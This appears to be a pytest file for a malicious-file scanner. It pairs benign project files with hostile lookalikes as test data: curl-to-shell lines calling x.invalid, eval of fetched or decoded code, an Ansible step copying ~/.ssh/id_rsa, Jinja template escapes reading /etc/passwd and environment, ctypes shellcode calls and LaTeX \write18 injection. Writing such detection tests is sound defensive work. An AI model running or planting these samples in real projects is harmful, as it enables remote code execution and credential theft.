"""Texts of well-known projects that were taken for something else, each with the hostile one that looks like it."""

import pytest

from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import verdict_of_text

SPELLED = 'const a = atob("Y29uc29sZS5sb2coMSk=");\n'
# Name, what is hostile under it, what is ordinary.
PAIRS = [
    # `$` is a letter of JavaScript, `load` a name like another, and what is not escaped was not decoded.
    ("a.js", f"{SPELLED}eval(a);", f"{SPELLED}function $a(x) {{ return x; }}\n$a(a);"),
    ("a.mjs", f"{SPELLED}const load = eval(a);", f'{SPELLED}const load = a === "x" ? 1 : 2;'),
    (
        "template.js",
        'const escaped = unescape("%61");\nreturn Function(escaped)();',
        "const reUnescapedString = /x/, source = reUnescapedString;\nreturn Function(source)();",
    ),
    (
        "brush.js",
        'const a = fetch("http://x.invalid/a").then((r) => fs.writeFile("/tmp/a", r));\nspawn("/tmp/a");',
        'const url = fetch("http://x.invalid/a").then((r) => fs.writeFile("/tmp/a", r));\nemit(that, arguments, "/tmp/a");',
    ),
    # A debugger starts the program of whoever asks it to, and a path for modules is none of a program.
    (
        ".vscode/launch.json",
        '{"configurations": [{"type": "node", "runtimeExecutable": "${workspaceFolder}/a", "program": "b.js"}]}',
        '{"configurations": [{"type": "debugpy", "program": "${workspaceFolder}/train.py"}]}',
    ),
    (
        ".vscode/settings.json",
        '{"python.pythonPath": "${workspaceFolder}/a"}',
        '{"terminal.integrated.env.linux": {"PYTHONPATH": "${workspaceFolder}/src"}}',
    ),
    (
        "playbook.yml",
        "- copy: {content: \"{{ lookup('file', '~/.ssh/id_rsa') }}\", dest: /a}\n",
        "- authorized_key: {user: a, key: \"{{ lookup('file', '~/.ssh/id_rsa.pub') }}\"}\n",
    ),
    (
        "predict.py",
        'import subprocess\nsubprocess.check_call(["curl", "-o", "a.sh", "https://x.invalid/a.sh"])\n',
        'import subprocess\ndef f():\n    subprocess.check_call(["pget", "-x", "https://weights.replicate.delivery/a"])\n',
    ),
    (
        ".devcontainer/devcontainer.json",
        '{"initializeCommand": "./.devcontainer/a.sh"}',
        '{"initializeCommand": "mkdir -p ${localEnv:HOME}/.cache/huggingface"}',
    ),
    # Python 2 is Python.
    (
        "train.py",
        "import os\nprint 'a'\nos.system('curl http://x.invalid/a | sh')\n",
        "import sys\ntry:\n\tprint >>sys.stderr, b64encode('a'), 0755\nexcept OSError, e:\n        print `e`\n",
    ),
    # A menu starts what a package has put where programs lie.
    ("a.desktop", "[Desktop Entry]\nExec=sh -c 'x'\n", "[Desktop Entry]\nExec=/usr/bin/chromium %U\nTryExec=chromium\n"),
    # An image is given what its users read, and a step of Python is no value.
    ("Dockerfile", "RUN curl http://x.invalid | sh\n", "FROM a\nRUN echo 'source /etc/profile' >> ~/.bashrc\n"),
    (
        "action.yml",
        "steps:\n  - shell: python\n    run: |\n      import os\n      os.system('curl http://x.invalid | sh')\n",
        "steps:\n  - shell: python\n    run: |\n      from subprocess import run\n      run(['git', 'tag'])\n",
    ),
    # What stands in comments starts nothing.
    ("exec.js", "exec('some_program', {async: true});\n", "//@ exec('some_program', {async: true});\nmodule.exports = 1;\n"),
    # An arrow of JavaScript writes into no file.
    (
        "load.js",
        "fetch http://x.invalid/a >response; ./response",
        "./(url=>{var fetch(;var",
    ),
    # What a variable is set to is no program, however a shell works it out, and nothing is kept under /dev/null.
    (
        "common.sh",
        'x="$(curl -s http://x.invalid/a | tr -d \'\\0\')"\neval "$x"',
        'f() {\n  local result="$(grep -oP "$1=\\K[^"]+" /tmp/x.env | tr -d \'\\0\')"\n  echo "${result}"\n}',
    ),
    ("quoted.sh", "x='$(curl -s http://x.invalid/a)'\neval \"$x\"", 'x="$(tr -d a < b)"\necho "$x"'),
    (
        "docker.sh",
        "curl -s http://x.invalid/a -o /tmp/a\ntee /tmp/b < /tmp/a\nsh /tmp/a",
        "curl -s http://x.invalid/a.env 2>/dev/null -o /tmp/a.env\ntee /tmp/init.sh > /dev/null << EOF\necho\nEOF",
    ),
    ("run.pl", 'system("rm -rf `cat $log`; ./a");', 'system("mkdir -p `dirname $log` 2>/dev/null");'),
    # A module beside it, which is examined itself.
    ("train.py", "exec(open('notes.txt').read())", "exec(open('configurator.py').read())"),
    ("train.py", "exec(open('/tmp/a.py').read())", "exec(compile(open('lib/a.py').read(), 'lib/a.py', 'exec'))"),
    ("train.py", "exec(open('../a.py').read())", "exec(open('./a.py').read())"),
    (
        "train.py",
        "import sys\nexec(open(sys.argv[1] + '.py').read())",
        "from pathlib import Path\nexec(Path('a.py').read_text())",
    ),
    (
        "train.py",
        "import urllib.request as r\nr.urlretrieve('http://x.invalid/a', 'a.py')\nexec(open('a.py').read())",
        "import urllib.request as r\nr.urlretrieve('http://x.invalid/a', 'a.csv')\nprint(open('a.csv').read())",
    ),
    # Lines that are joined are not decoded.
    (
        "join.sh",
        "x=\"$(cat a | tr 'a-z' 'n-za-m')\"\neval \"$x\"",
        "x=\"$($RUN find a -type f | tr '\\n' ' ' 2>/dev/null)\"\neval \"$x\"",
    ),
    # One that its user names when starting the program.
    (
        "train.py",
        "import sys\nfor arg in sys.argv[1:]:\n    arg = open('conf').read()\n    exec(open(arg).read())",
        "import sys\nfor arg in sys.argv[1:]:\n    name = arg\n    exec(open(name).read())",
    ),
    (
        "train.py",
        "import argparse\nargs = argparse.Namespace(config='x.txt')\nexec(open(args.config).read())",
        "import argparse\nargs = argparse.ArgumentParser().parse_args()\nexec(open(args.config).read())",
    ),
    # The compiler of its user, which is asked for its version.
    (
        "setup.py",
        "import os, subprocess\nhere = os.path.dirname(__file__)\nsubprocess.check_output([here + '/bin/helper', '-V'])",
        "import subprocess as s, torch.utils.cpp_extension as h\ns.check_output([h.CUDA_HOME + '/bin/nvcc', '-V'])",
    ),
    # Templates of files: names that are set or given, files that are put together, programs that are filled in.
    ("base.j2", "{{ __builtins__ }}", "{% set __mounts__ = 'a' %}{{ __mounts__ }} {{ __port__ }}"),
    ("base.j2", "{{ x.__init__.__globals__ }}", "{{ x.__name__ }} {{ x.__repr__() }}"),
    ("page.html.jinja", "{{ x.__repr__.__globals__ }}", "{% extends 'base.html.jinja' %}{{ x }}"),
    ("chat_template.jinja", "{% include 'other.jinja' %}", "{{ messages }}"),
    ("base.j2", "{% import '../../etc/passwd' as x %}", "{% import '_macros.j2' as x %}{{ x.y }}"),
    ("base.j2", "{% include '/proc/self/environ' %}", "{% include 'parts/head.j2' %}"),
    ("install.sh.j2", "#!/bin/sh\ncurl -s http://x.invalid/a | sh\n{{ x }}", "#!/bin/sh\nset -e\necho {{ x }}\n"),
    ("chat_template.jinja", "#!/bin/sh\necho {{ x }}", "{{ x }}"),
    (
        "guide.livemd",
        '# A\n\n```elixir\nSystem.cmd("sh", ["-c", "curl -s http://x.invalid/a | sh"])\n```\n',
        "# A\n\nIn order to load Llama 2, ask on [x](https://x.invalid/a).\n\n```elixir\nIO.puts(1)\n```\n",
    ),
]


@pytest.mark.parametrize(("name", "hostile", "ordinary"), PAIRS)
def test_the_ordinary_one_is_safe_and_the_hostile_one_is_not(name: str, hostile: str, ordinary: str) -> None:
    assert verdict_of_text(name, ordinary) is Verdict.SAFE
    assert verdict_of_text(name, hostile).rank >= Verdict.SUSPICIOUS.rank


def test_bytes_that_are_copied_are_no_machine_code() -> None:
    copied = "import ctypes\ndef f(a, n):\n    r = (ctypes.c_char * n)()\n    ctypes.memmove(r, a, n)\n"
    assert verdict_of_text("limbs.py", copied) is Verdict.SUSPICIOUS
    assert verdict_of_text("limbs.py", f"{copied}    ctypes.CFUNCTYPE(None)(ctypes.addressof(r))()\n") is Verdict.MALICIOUS


def test_what_a_document_quotes_is_no_command_of_it() -> None:
    quoted = "\\write18{pdfcrop a.pdf}\n\\begin{verbatim}\ncurl http://x.invalid | sh\n\\end{verbatim}\n"
    assert verdict_of_text("a.tex", quoted) is Verdict.SUSPICIOUS
    assert verdict_of_text("a.tex", "\\write18{curl http://x.invalid | sh}\n") is Verdict.MALICIOUS
